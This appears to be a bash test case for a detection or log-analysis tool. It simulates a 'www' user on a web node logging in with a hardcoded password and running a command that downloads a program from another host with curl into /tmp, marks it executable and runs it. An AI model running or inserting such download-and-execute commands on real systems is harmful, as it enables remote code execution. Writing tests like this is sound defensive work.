# www fetches a program with curl into /tmp, makes it executable and runs it.
# rules: plain
# format: RAW
# node: web-01
# source: 203.0.113.66
source "$(dirname "${BASH_SOURCE[0]}")/../helpers.sh"

mkdir "$work/web"
a_program "$work/web/upd"
serves "$work/web" 8000
from "$source_ip" www www-Passw0rd "cd /tmp && curl -s -o upd http://$source_ip:8000/upd; ls -l upd; chmod +x upd; ./upd; uptime"
kill "$server"
